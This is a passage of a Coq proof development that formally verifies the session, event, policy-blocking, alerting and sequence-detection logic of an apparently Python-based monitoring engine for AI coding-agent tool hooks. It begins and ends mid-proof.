    destruct (String.eqb tool_name ""); [apply keeps_ret|].
    apply keeps_bind; [apply keeps_upsert_node|]. intros tool_actual_id.
    apply keeps_bind; [apply keeps_upsert_edge|]. intros _. apply keeps_ret. }
  intros parent_id. apply keeps_bind.
  { destruct (ev_commands event); [|apply keeps_ret].
    apply keeps_for_each. intros fp.
    apply keeps_bind; [apply keeps_upsert_node|]. intros file_actual_id.
    apply keeps_upsert_edge. }
  intros _. apply keeps_bind.
  { apply keeps_for_collect. intros cmd.
    apply keeps_bind; [apply keeps_upsert_node|]. intros group_actual_id.
    apply keeps_bind; [apply keeps_upsert_edge|]. intros _.
    apply keeps_bind; [apply keeps_upsert_node|]. intros cmd_actual_id.
    apply keeps_bind; [apply keeps_upsert_edge|]. intros _.
    apply keeps_bind; [|intros _; apply keeps_ret].
    apply keeps_for_each. intros ref.
    apply keeps_bind; [apply keeps_upsert_node|]. intros file_actual_id.
    apply keeps_upsert_edge. }
  intros process_actual_ids. apply keeps_for_each. intros url.
  apply keeps_bind; [apply keeps_upsert_node|]. intros domain_actual_id.
  destruct process_actual_ids; [apply keeps_upsert_edge|].
  apply keeps_for_each. intros pid. apply keeps_upsert_edge.
Qed.

(** X19: [_build_graph] writes to the graph tables only.  Sessions,
    events, alerts and policies, the queue, the policy cache, the sequence
    tracker and the broadcasts are as before, and no row of the graph is
    ever removed. *)
Theorem build_graph_frame (event : Event) (w : Engine) :
  outside_graph w (snd (_build_graph event w)).
Proof.
  destruct (_build_graph event w) as [x w'] eqn:Hrun.
  by eapply keeps_build_graph.
Qed.

End AlertingFacts.

(** ** The collector *)

Section CollectorFacts.
Import Store Engine Collector.
Context `{PyRe} `{PyUrl} `{ConditionEval}.

Lemma get_session_update f sid db other :
  (forall s, s_session_id (f s) = s_session_id s) ->
  get_session_by_id (update_session f sid db) other =
  option_map (fun s => if String.eqb (s_session_id s) sid then f s else s)
             (get_session_by_id db other).
Proof.
  intros Hf. unfold get_session_by_id. rewrite update_session_sessions.
  apply find_map_same. intros s.
  destruct (String.eqb (s_session_id s) sid); by rewrite ?Hf.
Qed.

Lemma get_session_found db sid s :
  get_session_by_id db sid = Some s -> s_session_id s = sid.
Proof.
  unfold get_session_by_id. intros Hf. apply List.find_some in Hf as [_ Hf].
  by apply String.eqb_eq in Hf.
Qed.

Lemma save_session_get db session :
  get_session_by_id (save_session db session) (s_session_id session) =
  Some (match get_session_by_id db (s_session_id session) with
        | Some old => merge_session session old
        | None => inserted_session session
        end).
Proof.
  unfold save_session. rewrite find_existsb. fold (get_session_by_id db (s_session_id session)).
  destruct (get_session_by_id db (s_session_id session)) as [old|] eqn:Hold.
  - rewrite get_session_update by done. rewrite Hold. simpl.
    by rewrite (get_session_found _ _ _ Hold), String.eqb_refl.
  - unfold get_session_by_id in *. simpl. rewrite find_snoc, Hold. simpl.
    by rewrite String.eqb_refl.
Qed.

Lemma save_session_new db session :
  get_session_by_id db (s_session_id session) = None ->
  save_session db session = set_sessions db (sessions db ++ [inserted_session session]).
Proof.
  intros Hnone. unfold save_session. rewrite find_existsb.
  fold (get_session_by_id db (s_session_id session)). by rewrite Hnone.
Qed.

Lemma get_event_saved db event :
  get_event_by_id (save_event db event) (ev_id event) = Some event.
Proof.
  unfold get_event_by_id, save_event. simpl.
  by rewrite find_snoc, find_filter_self, N.eqb_refl.
Qed.

Lemma resolve_session_source_given payload request :
  _resolve_session_source payload request <> "" /\
  (given_str (hp_session_source payload) = true ->
   hp_session_source payload = Some (_resolve_session_source payload request)) /\
  (given_str (hp_session_source payload) = false -> request = None ->
   _resolve_session_source payload request = "claude_code").
Proof.
  unfold _resolve_session_source.
  destruct (given_str (hp_session_source payload)) eqn:Hg.
  - rewrite Hg. split; [|split; [|done]].
    + unfold given_str in Hg. destruct (hp_session_source payload) as [src|]; [|done].
      simpl. intros ->. done.
    + intros _. unfold given_str in Hg. by destruct (hp_session_source payload).
  - split; [|split; [done|]].
    + destruct request as [r|]; [|by rewrite Hg].
      destruct (given_str (header r "X-AgentsLeak-Source")) eqn:Hh; [|done].
      unfold given_str in Hh. destruct (header r "X-AgentsLeak-Source") as [src|]; [|done].
      simpl. intros ->. done.
    + intros _ ->. by rewrite Hg.
Qed.

Lemma create_session_known payload request w :
  let session := fst (_create_or_update_session payload request w) in
  let w' := snd (_create_or_update_session payload request w) in
  get_session_by_id (database w') (hp_session_id payload) = Some session /\
  s_event_count session =
    match get_session_by_id (database w) (hp_session_id payload) with
    | Some old => s_event_count old
    | None => 0
    end /\
  _event_queue w' = _event_queue w /\ _policies w' = _policies w.
Proof.
  intros session w'. unfold session, w', _create_or_update_session.
  destruct (get_session_by_id (database w) (hp_session_id payload)) as [old|] eqn:Hold;
    [done|].
  unfold new_session. destruct (_resolve_endpoint_fields payload request) as [hn us].
  cbn -[save_session get_session_by_id]. set (s0 := mkSession _ _ _ _ _ _ _ _ _ _ _ _ _).
  pose proof (save_session_get (database w) s0) as Hs.
  change (s_session_id s0) with (hp_session_id payload) in Hs. by rewrite Hold in Hs.
Qed.

(** X20: [_create_or_update_session] never updates: for a session the
    store knows it returns the stored row and changes nothing; otherwise it
    appends one row, active, with both counters and the risk score at zero
    and a source that is never empty (the payload's, else the header's,
    else claude_code), and returns it.  A second call changes nothing. *)
Theorem create_or_update_session_effect (payload : HookPayload)
    (request again : option Request) (w : Engine) :
  let session := fst (_create_or_update_session payload request w) in
  let w' := snd (_create_or_update_session payload request w) in
  let sid := hp_session_id payload in
  (forall old, get_session_by_id (database w) sid = Some old -> session = old /\ w' = w) /\
  (get_session_by_id (database w) sid = None ->
     sessions (database w') = sessions (database w) ++ [session] /\
     s_session_id session = sid /\ s_id session = next_uuid w /\
     s_started_at session = clock w /\ s_ended_at session = None /\
     s_event_count session = 0 /\ s_alert_count session = 0 /\
     s_risk_score session = 0 /\ s_status session = "active" /\
     s_cwd session = hp_session_cwd payload /\
     s_parent_session_id session = hp_parent_session_id payload /\
     s_session_source session = Some (_resolve_session_source payload request) /\
     events (database w') = events (database w) /\
     alerts (database w') = alerts (database w) /\
     _event_queue w' = _event_queue w) /\
  get_session_by_id (database w') sid = Some session /\
  _resolve_session_source payload request <> "" /\
  (given_str (hp_session_source payload) = true ->
   hp_session_source payload = Some (_resolve_session_source payload request)) /\
  snd (_create_or_update_session payload again w') = w'.
Proof.
  intros session w' sid.
  assert (get_session_by_id (database w') sid = Some session) as Hget.
  { unfold session, w', _create_or_update_session. fold sid.
    destruct (get_session_by_id (database w) sid) as [old|] eqn:Hold; [done|].
    unfold new_session. destruct (_resolve_endpoint_fields payload request) as [hn us].
    cbn -[save_session get_session_by_id]. set (s0 := mkSession _ _ _ _ _ _ _ _ _ _ _ _ _).
    pose proof (save_session_get (database w) s0) as Hs.
    change (s_session_id s0) with sid in Hs. by rewrite Hold in Hs. }
  split; [|split; [|split; [done|split; [|split]]]].
  - intros old Hold. unfold session, w', _create_or_update_session. fold sid.
    by rewrite Hold.
  - intros Hnone. unfold session, w', _create_or_update_session. fold sid.
    rewrite Hnone. unfold new_session.
    destruct (_resolve_endpoint_fields payload request) as [hn us].
    cbn -[save_session]. rewrite save_session_new by done.
    by repeat split.
  - apply resolve_session_source_given.
  - apply resolve_session_source_given.
  - unfold _create_or_update_session at 1. fold sid. by rewrite Hget.
Qed.

Lemma store_and_enqueue_run payload event w :
  store_and_enqueue payload event w =
  (tt, mkEngine
         (increment_session_event_count (save_event (database w) event)
            (hp_session_id payload))
         (_event_queue w ++ [event]) (_policies w) (_sequence_tracker w)
         (next_uuid w) (clock w) (broadcasts w)).
Proof. reflexivity. Qed.

Lemma get_session_counted db event sid :
  get_session_by_id (increment_session_event_count (save_event db event) sid) sid =
  option_map bump_event_count (get_session_by_id db sid).
Proof.
  unfold increment_session_event_count. rewrite get_session_update by done.
  change (get_session_by_id (save_event db event) sid) with (get_session_by_id db sid).
  destruct (get_session_by_id db sid) as [s|] eqn:Hs; [|done]. simpl.
  by rewrite (get_session_found _ _ _ Hs), String.eqb_refl.
Qed.

(** X21: a [session-start] (or [subagent-start]) for a session the store
    already knows restarts its counters: afterwards the row is active, not
    ended, with [event_count] 1 and [alert_count] 0, whatever they were,
    while its id, start time, working directory and [risk_score] are kept;
    for a new session the row starts at the time of the payload.  The
    start event is stored and queued. *)
Theorem collect_session_start_restarts (payload : HookPayload) (request : Request)
    (w : Engine) :
  let w' := snd (collect_session_start payload request w) in
  let sid := hp_session_id payload in
  exists s event,
    get_session_by_id (database w') sid = Some s /\
    s_event_count s = 1 /\ s_alert_count s = 0 /\
    s_status s = "active" /\ s_ended_at s = None /\
    match get_session_by_id (database w) sid with
    | Some old =>
        s_id s = s_id old /\ s_started_at s = s_started_at old /\
        s_cwd s = s_cwd old /\ s_risk_score s = s_risk_score old
    | None =>
        s_started_at s = hp_timestamp payload /\ s_cwd s = hp_session_cwd payload /\
        s_risk_score s = 0
    end /\
    get_event_by_id (database w') (ev_id event) = Some event /\
    ev_hook_type event = "SessionStart" /\ ev_session_id event = sid /\
    ev_timestamp event = hp_timestamp payload /\ ev_processed event = false /\
    _event_queue w' = _event_queue w ++ [event].
Proof.
  intros w' sid. unfold w', collect_session_start, collect_started, new_session.
  destruct (_resolve_endpoint_fields payload (Some request)) as [hn us].
  cbn -[save_session save_event increment_session_event_count get_session_by_id
        get_event_by_id].
  set (s0 := mkSession _ _ _ _ _ _ _ _ _ _ _ _ _).
  set (event := mkEvent _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _).
  rewrite get_session_counted.
  pose proof (save_session_get (database w) s0) as Hs.
  change (s_session_id s0) with sid in Hs. rewrite Hs.
  eexists _, (set_hook_type event "SessionStart"). split; [done|].
  split; [by destruct (get_session_by_id (database w) sid)|].
  split; [by destruct (get_session_by_id (database w) sid)|].
  split; [done|]. split; [done|].
  split; [by destruct (get_session_by_id (database w) sid)|].
  split; [|done].
  unfold increment_session_event_count, update_session, get_event_by_id. simpl.
  by rewrite find_snoc, find_filter_self, N.eqb_refl.
Qed.

Lemma evaluate_pre_tool_store event w :
  let decision := fst (fst (evaluate_pre_tool event w)) in
  let w' := snd (evaluate_pre_tool event w) in
  snd (fst (evaluate_pre_tool event w)) = classify (enrich event) /\
  events (database w') = events (database w) /\
  _event_queue w' = _event_queue w /\
  (forall sid, exists f,
     (forall s, s_session_id (f s) = s_session_id s /\
                s_event_count (f s) = s_event_count s /\
                s_status (f s) = s_status s /\ s_ended_at (f s) = s_ended_at s) /\
     get_session_by_id (database w') sid = option_map f (get_session_by_id (database w) sid)) /\
  (decision = mkDecision true None None None \/
   exists policy id,
     In policy (_policies w) /\ policy_action policy = BLOCK /\
     policy_enabled policy = true /\
     decision = mkDecision false (Some ("Blocked by policy: " +:+ policy_name policy))
                           None (Some id)).
Proof.
  intros decision w'. unfold decision, w'.
  destruct (blocking_policy (_policies w) (classify (enrich event))) as [policy|] eqn:Hb.
  - rewrite (evaluate_pre_tool_deny _ _ _ Hb). cbn zeta. cbn [fst snd database _event_queue].
    split; [done|]. split.
    { unfold increment_session_alert_count, update_session, save_alert. simpl.
      by destruct (existsb _ _). }
    split; [done|]. split.
    + intros sid.
      exists (fun s => if String.eqb (s_session_id s)
                            (ev_session_id (classify (enrich event)))
                       then bump_alert_count s else s).
      split; [intros s; by destruct (String.eqb _ _)|].
      unfold increment_session_alert_count. rewrite get_session_update by done.
      f_equal. unfold get_session_by_id, save_alert. by destruct (existsb _ _).
    + right. unfold blocking_policy in Hb. apply List.find_some in Hb as [Hin Hp].
      apply andb_true_iff in Hp as [Hact Hm]. apply bool_decide_eq_true in Hact.
      eexists policy, _. split; [done|]. split; [done|].
      split; [by eapply matches_enabled | done].
  - rewrite (evaluate_pre_tool_allow _ _ Hb). simpl.
    split; [done|]. split; [done|]. split; [done|]. split; [|by left].
    intros sid. exists (fun s => s). split; [done|].
    by destruct (get_session_by_id (database w) sid).
Qed.

Lemma collect_pre_tool_use_run payload request w :
  let w1 := snd (_create_or_update_session payload (Some request) w) in
  let event0 :=
    set_hook_type
      (mkEvent (next_uuid w1) (hp_session_id payload) (hp_timestamp payload)
         (hp_hook_type payload) (hp_tool_name payload) (hp_tool_input payload)
         (hp_tool_result payload) UNKNOWN INFO [] [] [] [] false false
         (Some (model_dump payload)))
      "PreToolUse" in
  let w2 := mkEngine (database w1) (_event_queue w1) (_policies w1)
                     (_sequence_tracker w1) (N.succ (next_uuid w1)) (clock w1)
                     (broadcasts w1) in
  let r := evaluate_pre_tool event0 w2 in
  collect_pre_tool_use payload request w =
  (to_hook_response (fst (fst r)),
   mkEngine
     (increment_session_event_count (save_event (database (snd r)) (snd (fst r)))
        (hp_session_id payload))
     (_event_queue (snd r) ++ [snd (fst r)]) (_policies (snd r))
     (_sequence_tracker (snd r)) (next_uuid (snd r)) (clock (snd r))
     (broadcasts (snd r))).
Proof.
  cbn zeta. unfold collect_pre_tool_use, bind at 1.
  destruct (_create_or_update_session payload (Some request) w) as [s1 w1].
  cbn [snd]. unfold bind at 1, from_hook_payload, bind at 1, uuid4, ret at 1.
  unfold bind at 1.
  by destruct (evaluate_pre_tool _ _) as [[decision event] w3].
Qed.

(** X22: [pre-tool-use] records the event whatever the decision: the
    event, enriched and classified, is stored under its id with hook type
    PreToolUse and queued once; the session exists afterwards, active, with
    one more event counted (one for a new session).  The answer to the hook
    is either empty (allow) or a deny whose reason is "Blocked by policy: "
    and the name of an enabled BLOCK policy of the cache: it never carries
    an updated input and never the default reason. *)
Theorem collect_pre_tool_use_records (payload : HookPayload) (request : Request)
    (w : Engine) :
  let response := fst (collect_pre_tool_use payload request w) in
  let w' := snd (collect_pre_tool_use payload request w) in
  let sid := hp_session_id payload in
  (response = [] \/
   exists policy,
     In policy (_policies w) /\ policy_action policy = BLOCK /\
     policy_enabled policy = true /\
     response =
       [ ("hookSpecificOutput",
          JDict [ ("hookEventName", JStr "PreToolUse");
                  ("permissionDecision", JStr "deny");
                  ("permissionDecisionReason",
                   JStr ("Blocked by policy: " +:+ policy_name policy)) ]) ]) /\
  (exists event,
     get_event_by_id (database w') (ev_id event) = Some event /\
     ev_hook_type event = "PreToolUse" /\ ev_session_id event = sid /\
     ev_enriched event = true /\ ev_processed event = false /\
     ev_category event = Classifier.classify_event event /\
     _event_queue w' = _event_queue w ++ [event]) /\
  (exists s,
     get_session_by_id (database w') sid = Some s /\
     s_status s = "active" /\ s_ended_at s = None /\
     s_event_count s =
       match get_session_by_id (database w) sid with
       | Some old => s_event_count old
       | None => 0
       end + 1).
Proof.
  intros response w' sid. unfold response, w'.
  rewrite collect_pre_tool_use_run. cbn zeta. cbn [fst snd].
  pose proof (create_session_known payload (Some request) w) as Hc.
  cbn zeta in Hc. destruct Hc as (Hs1 & Hcount & Hq1 & Hp1).
  set (w1 := snd (_create_or_update_session payload (Some request) w)) in *.
  set (s1 := fst (_create_or_update_session payload (Some request) w)) in *.
  set (event0 := set_hook_type _ _).
  set (w2 := mkEngine (database w1) _ _ _ _ _ _).
  pose proof (evaluate_pre_tool_store event0 w2) as He.
  cbn zeta in He. destruct He as (He & Hev & Hq3 & Hs3 & Hd).
  set (r := evaluate_pre_tool event0 w2) in *.
  cbn [database _event_queue]. split; [|split].
  - destruct Hd as [->|(policy & id & Hin & Hact & Hen & ->)]; [by left|].
    right. exists policy. change (_policies w2) with (_policies w1) in Hin.
    rewrite Hp1 in Hin. split; [done|]. split; [done|]. split; [done|]. reflexivity.
  - exists (classify (enrich event0)). rewrite He, Hq3.
    change (_event_queue w2) with (_event_queue w1). rewrite Hq1.
    split; [|by repeat split].
    unfold increment_session_event_count, update_session, get_event_by_id. simpl.
    by rewrite find_snoc, find_filter_self, N.eqb_refl.
  - rewrite get_session_counted.
    destruct (Hs3 sid) as (f & Hf & ->).
    change (database w2) with (database w1). unfold sid. rewrite Hs1. simpl.
    destruct (Hf s1) as (_ & Hfc & _ & _). eexists. split; [done|].
    split; [done|]. split; [done|]. simpl. by rewrite Hfc, Hcount.
Qed.

End CollectorFacts.

Module AlertingExample.
Import Store Engine LiteralRe PreToolExample.

Definition watch_all : Policy :=
  mkPolicy 8%N "Watch everything" "every tool is reported" true [] [] [] "all"
           ALERT MEDIUM "" "" [].

Definition log_all : Policy :=
  mkPolicy 9%N "Log everything" "every tool is logged" true [] [] [] "all"
           LOG LOW "" "" [].

(** An engine with a BLOCK, an ALERT and a LOG policy in its cache. *)
Definition watching_engine : Engine :=
  mkEngine (mkDatabase [one_session] [] [] [block_all; watch_all; log_all] [] [])
           [] [block_all; watch_all; log_all] Sequence.new_tracker 100%N 5 [].

Example evaluate_policies_one_alert :
  map alert_policy_id
      (alerts (database (snd (@_evaluate_policies no_condition_eval bare_event
                                                  watching_engine)))) = [Some 8%N] /\
  map s_alert_count
      (sessions (database (snd (@_evaluate_policies no_condition_eval bare_event
                                                    watching_engine)))) = [1].
Proof. vm_compute. by split. Qed.

Lemma evaluate_policies_alerts_witness :
  let event := bare_event in
  let w := watching_engine in
  (forall a, In a (alerts (database w)) -> (alert_id a < next_uuid w)%N) /\
  let w' := snd (@_evaluate_policies no_condition_eval event w) in
  exists new,
    alerts (database w') = alerts (database w) ++ new /\
    Forall2 (fun p a =>
               policy_action p = ALERT /\
               @Policies.matches no_condition_eval p (_event_to_dict event) = true /\
               (forall a0, In a0 (alerts (database w)) -> alert_id a0 <> alert_id a) /\
               alert_blocked a = false /\
               alert_policy_id a = Some (policy_id p) /\
               alert_severity a = policy_severity p /\
               alert_event_ids a = [ev_id event] /\
               alert_session_id a = ev_session_id event /\
               length (alert_evidence a) = 1%nat)
            (List.filter (@alerting no_condition_eval event) (_policies w)) new /\
    sessions (database w') =
      map (fun s => if String.eqb (s_session_id s) (ev_session_id event)
                    then Nat.iter (length new) bump_alert_count s else s)
          (sessions (database w)) /\
    (forall s, s_alert_count (Nat.iter (length new) bump_alert_count s) =
               s_alert_count s + Z.of_nat (length new)) /\
    broadcasts w' = broadcasts w ++ map BroadcastAlert new /\
    _event_queue w' = _event_queue w /\ _policies w' = _policies w /\
    _sequence_tracker w' = _sequence_tracker w /\
    events (database w') = events (database w) /\
    graph_nodes (database w') = graph_nodes (database w) /\
    graph_edges (database w') = graph_edges (database w).
Proof.
  assert (forall a, In a (alerts (database watching_engine)) ->
                    (alert_id a < next_uuid watching_engine)%N) as Hfresh
    by (by intros a []).
  split; [done|].
  exact (@evaluate_policies_alerts no_condition_eval bare_event watching_engine Hfresh).
Defined.

End AlertingExample.


(** ** The processing of one event *)

Section ProcessingFacts.
Import Store Classifier Sequence Engine.
Context `{PyRe} `{PyUrl} `{ConditionEval}.

Lemma bind_run {A B} (m : M A) (k : A -> M B) w :
  bind m k w = k (fst (m w)) (snd (m w)).
Proof. unfold bind. by destruct (m w). Qed.

Lemma add_step_evidence_run rule pairs : forall i alert w,
  add_step_evidence rule i pairs alert w =
  (steps_added rule i pairs (clock w) alert,
   mkEngine (database w) (_event_queue w) (_policies w) (_sequence_tracker w)
            (next_uuid w) (clock w + Z.of_nat (length pairs)) (broadcasts w)).
Proof.
  induction pairs as [|[step me] rest IH]; intros i alert w.
  - destruct w. simpl. unfold ret. by rewrite Z.add_0_r.
  - cbn [add_step_evidence steps_added]. rewrite bind_run.
    unfold step_evidence at 1 2. rewrite !bind_run. cbn [now fst snd ret].
    rewrite IH. cbn [database _event_queue _policies _sequence_tracker next_uuid
                       clock broadcasts length].
    f_equal. f_equal. lia.
Qed.

Lemma sequence_alert_run event rule ms w :
  sequence_alert event rule ms w =
  (tt, mkEngine
         (increment_session_alert_count
            (save_alert (database w) (sequence_alert_of event rule ms (next_uuid w) (clock w)))
            (ev_session_id event))
         (_event_queue w) (_policies w) (_sequence_tracker w)
         (N.succ (next_uuid w))
         (clock w + 1 + Z.of_nat (length (zip (rule_steps rule) ms)))
         (broadcasts w ++ [BroadcastAlert
                             (sequence_alert_of event rule ms (next_uuid w) (clock w))])).
Proof.
  unfold sequence_alert. rewrite bind_run. unfold new_alert at 1 2.
  rewrite !bind_run. cbn [uuid4 now ret fst snd database _event_queue _policies
    _sequence_tracker next_uuid clock broadcasts].
  rewrite !add_step_evidence_run. reflexivity.
Qed.

Lemma steps_added_fields rule pairs : forall i t alert,
  let a := steps_added rule i pairs t alert in
  alert_id a = alert_id alert /\
  alert_session_id a = alert_session_id alert /\
  alert_severity a = alert_severity alert /\
  alert_category a = alert_category alert /\
  alert_policy_id a = alert_policy_id alert /\
  alert_event_ids a = alert_event_ids alert /\
  alert_blocked a = alert_blocked alert /\
  alert_status a = alert_status alert /\
  map evidence_event_id (alert_evidence a) =
    map evidence_event_id (alert_evidence alert) ++ map (fun p => be_event_id (snd p)) pairs.
Proof.
  induction pairs as [|[step me] rest IH]; intros i t alert; cbn zeta.
  - simpl. by rewrite app_nil_r.
  - cbn [steps_added].
    destruct (IH (S i) (t + 1)
                (Policies.add_evidence alert t (be_event_id me)
                   ("Step " +:+ Py.int_str (Z.of_nat i + 1) +:+ ": " +:+ step_label step)
                   [ ("tool_name", default (JStr "") (dict_get (be_data me) "tool_name"));
                     ("category", default (JStr "") (dict_get (be_data me) "category"));
                     ("sequence_rule", JStr (rule_id rule)) ]
                   (first_item (be_data me) "file_paths")
                   (first_item (be_data me) "commands")
                   (first_item (be_data me) "urls")))
      as (-> & -> & -> & -> & -> & -> & -> & -> & ->).
    cbn [Policies.add_evidence alert_id alert_session_id alert_severity alert_category
         alert_policy_id alert_event_ids alert_blocked alert_status alert_evidence].
    rewrite map_app. cbn [map evidence_event_id snd]. by rewrite <- app_assoc.
Qed.

(** The fields of a sequence alert. *)
Lemma sequence_alert_of_fields event rule ms id t :
  let a := sequence_alert_of event rule ms id t in
  alert_id a = id /\
  alert_session_id a = ev_session_id event /\
  alert_severity a = rule_severity rule /\
  alert_category a = ev_category event /\
  alert_policy_id a = None /\
  alert_event_ids a = map be_event_id ms /\
  alert_blocked a = false /\
  alert_status a = ST_NEW /\
  alert_tags a = rule_tags rule ++ ["sequence-detection"] /\
  map evidence_event_id (alert_evidence a) =
    map be_event_id (take (length (rule_steps rule)) ms).
Proof.
  cbn zeta. unfold sequence_alert_of.
  match goal with |- context [steps_added ?r ?i ?p ?t0 ?a0] =>
    destruct (steps_added_fields r p i t0 a0) as (E1 & E2 & E3 & E4 & E5 & E6 & E7 & E8 & E9)
  end.
  cbn [set_tags alert_id alert_session_id alert_severity alert_category alert_policy_id
       alert_event_ids alert_blocked alert_status alert_tags alert_evidence].
  rewrite E1, E2, E3, E4, E5, E6, E7, E8, E9. cbn [alert_id alert_session_id alert_severity
    alert_category alert_policy_id alert_event_ids alert_blocked alert_status alert_evidence
    map app].
  repeat (split; [done|]).
  rewrite <- (map_map snd be_event_id). f_equal.
  clear. generalize (rule_steps rule). intros steps. revert ms.
  induction steps as [|s steps IH]; intros [|m ms]; simpl; try done. by rewrite IH.
Qed.

(** The loop of [_evaluate_sequences] over the matches. *)
Lemma sequence_alerts_loop event ms : forall w,
  alert_ids_drawn w ->
  let w' := snd (for_each ms (fun m => sequence_alert event (fst m) (snd m)) w) in
  exists new,
    alerts (database w') = alerts (database w) ++ new /\
    Forall2 (fun m a => exists id t, a = sequence_alert_of event (fst m) (snd m) id t /\
                                     (next_uuid w <= id < next_uuid w')%N)
            ms new /\
    sessions (database w') =
      map (fun s => if String.eqb (s_session_id s) (ev_session_id event)
                    then Nat.iter (length new) bump_alert_count s else s)
          (sessions (database w)) /\
    broadcasts w' = broadcasts w ++ map BroadcastAlert new /\
    (next_uuid w <= next_uuid w')%N /\
    _event_queue w' = _event_queue w /\ _policies w' = _policies w /\
    _sequence_tracker w' = _sequence_tracker w /\
    events (database w') = events (database w) /\
    policies (database w') = policies (database w) /\
    graph_nodes (database w') = graph_nodes (database w) /\
    graph_edges (database w') = graph_edges (database w).
Proof.
  induction ms as [|m ms IH]; intros w Hfresh; cbn zeta.
  - exists []. simpl. rewrite !app_nil_r.
    split; [done|]. split; [constructor|]. split.
    { rewrite <- (map_id (sessions (database w))) at 1. apply map_ext. intros s.
      by destruct (String.eqb _ _). }
    split; [done|]. split; [lia | done].
  - rewrite for_each_cons, sequence_alert_run. cbn [snd].
    set (a := sequence_alert_of event (fst m) (snd m) (next_uuid w) (clock w)).
    assert (alert_id a = next_uuid w) as Hid
      by apply (sequence_alert_of_fields event (fst m) (snd m) (next_uuid w) (clock w)).
    rewrite (save_alert_fresh (database w) a)
      by (intros a0 Hin; specialize (Hfresh a0 Hin); rewrite Hid; lia).
    set (w1 := mkEngine _ _ _ _ _ _ _).
    assert (alert_ids_drawn w1) as Hf1.
    { unfold w1. intros a0. simpl. intros Hin.
      apply in_app_or in Hin as [Hin|[<-|[]]]; [specialize (Hfresh a0 Hin)|rewrite Hid]; lia. }
    destruct (IH w1 Hf1)
      as (new & Ha & Hall & Hs & Hb & Hn & Hq & Hpc & Ht & He & Hpt & Hgn & Hge).
    exists (a :: new).
    split; [rewrite Ha; unfold w1; simpl; by rewrite <- app_assoc|]. split.
    { constructor.
      - exists (next_uuid w), (clock w). split; [done|].
        change (next_uuid w1) with (N.succ (next_uuid w)) in Hn. lia.
      - eapply Forall2_impl; [exact Hall|]. intros p' a' (id & t & -> & Hid').
        exists id, t. split; [done|].
        change (next_uuid w1) with (N.succ (next_uuid w)) in Hid'. lia. }
    split.
    { rewrite Hs. unfold w1. simpl. rewrite map_map. apply map_ext. intros s.
      destruct (String.eqb (s_session_id s) (ev_session_id event)) eqn:Hsid.
      - simpl. rewrite Hsid. by rewrite <- Nat.iter_succ_r.
      - by rewrite Hsid. }
    split; [rewrite Hb; unfold w1; simpl; by rewrite <- app_assoc|].
    split; [change (next_uuid w1) with (N.succ (next_uuid w)) in Hn; lia|].
    rewrite Hq, Hpc, Ht, He, Hpt, Hgn, Hge. done.
Qed.

(** What [track_event] returns for a rule: one buffered event of the
    session for each step. *)
Lemma track_event_matches t event_id sid ts data rule result :
  In (rule, result) (snd (track_event t event_id sid ts data)) ->
  In rule (_rules t) /\
  length result = length (rule_steps rule) /\
  (forall e, In e result -> In e (buffer_of (fst (track_event t event_id sid ts data)) sid)).
Proof.
  pose proof (track_event_buffers t event_id sid ts data) as (Hb & _ & _).
  unfold buffer_of. rewrite Hb, lookup_insert_eq. simpl. clear Hb.
  unfold track_event.
  set (buf := prune _ _). set (t1 := mkTracker _ _ _ _).
  destruct (check_rules t1 sid ts (_rules t1) (_fired t1)) as [f ms] eqn:Hc.
  simpl. intros Hin.
  destruct (check_rules_matches _ _ _ _ _ _ _ _ _ Hc Hin) as [Hr Hres].
  assert (_buffers t1 !! sid = Some buf) as Hb by (unfold t1; simpl; apply lookup_insert_eq).
  destruct (check_rule_sound _ _ _ _ _ _ Hb Hres) as [Hall _].
  split; [done|]. split.
  - symmetry. eapply Forall2_length, Hall.
  - intros e He. clear Hres Hin. induction Hall as [|s e0 ss es [Hin0 _] _ IH]; [done|].
    destruct He as [<-|He]; [done | by apply IH].
Qed.

Lemma string_head_str_list d k xs :
  dict_get d k = Some (str_list xs) -> string_head d k.
Proof. unfold string_head. intros ->. destruct xs; simpl; [done | by eexists]. Qed.

(** Tracking an event built by [_event_to_dict] keeps the buffers ready
    for the evidence loop. *)
Lemma track_event_ready t event :
  evidence_ready t ->
  evidence_ready (fst (track_event t (ev_id event) (ev_session_id event)
                                   (ev_timestamp event) (_event_to_dict event))).
Proof.
  intros Hready sid buf e.
  pose proof (track_event_buffers t (ev_id event) (ev_session_id event)
                (ev_timestamp event) (_event_to_dict event)) as (-> & _ & _).
  destruct (decide (sid = ev_session_id event)) as [->|Hne].
  - rewrite lookup_insert_eq. intros [= <-] Hin.
    apply prune_In in Hin. unfold deque_append in Hin.
    rewrite <- list_elem_of_In in Hin. apply (subseteq_drop _ _ e) in Hin.
    rewrite list_elem_of_In in Hin. apply in_app_or in Hin as [Hin|[<-|[]]].
    + unfold buffer_of in Hin.
      destruct (_buffers t !! ev_session_id event) as [b|] eqn:Hb; [|done].
      by eapply Hready.
    + simpl. split; [|split]; by eapply string_head_str_list.
  - rewrite lookup_insert_ne by done. apply Hready.
Qed.

Lemma evaluate_sequences_loop event w :
  alert_ids_drawn w ->
  let tracked := track_event (_sequence_tracker w) (ev_id event) (ev_session_id event)
                             (ev_timestamp event) (_event_to_dict event) in
  let w' := snd (_evaluate_sequences event w) in
  exists new,
    alerts (database w') = alerts (database w) ++ new /\
    Forall2 (fun m a => exists id t, a = sequence_alert_of event (fst m) (snd m) id t /\
                                     (next_uuid w <= id < next_uuid w')%N)
            (snd tracked) new /\
    sessions (database w') =
      map (fun s => if String.eqb (s_session_id s) (ev_session_id event)
                    then Nat.iter (length new) bump_alert_count s else s)
          (sessions (database w)) /\
    broadcasts w' = broadcasts w ++ map BroadcastAlert new /\
    (next_uuid w <= next_uuid w')%N /\
    _event_queue w' = _event_queue w /\ _policies w' = _policies w /\
    _sequence_tracker w' = fst tracked /\
    events (database w') = events (database w) /\
    policies (database w') = policies (database w) /\
    graph_nodes (database w') = graph_nodes (database w) /\
    graph_edges (database w') = graph_edges (database w).
Proof.
  intros Hfresh tracked w'. unfold w', _evaluate_sequences. fold tracked.
  set (w0 := mkEngine _ _ _ _ _ _ _).
  exact (sequence_alerts_loop event (snd tracked) w0 Hfresh).
Qed.

Lemma Forall2_Forall_right {A B} (P : A -> B -> Prop) (Q : B -> Prop) xs ys :
  (forall x y, P x y -> Q y) -> Forall2 P xs ys -> Forall Q ys.
Proof. intros HPQ Hall. induction Hall; constructor; eauto. Qed.

Lemma Forall2_refine {A B} (P Q : A -> B -> Prop) (R : A -> Prop) xs ys :
  Forall R xs -> (forall x y, R x -> P x y -> Q x y) -> Forall2 P xs ys -> Forall2 Q xs ys.
Proof.
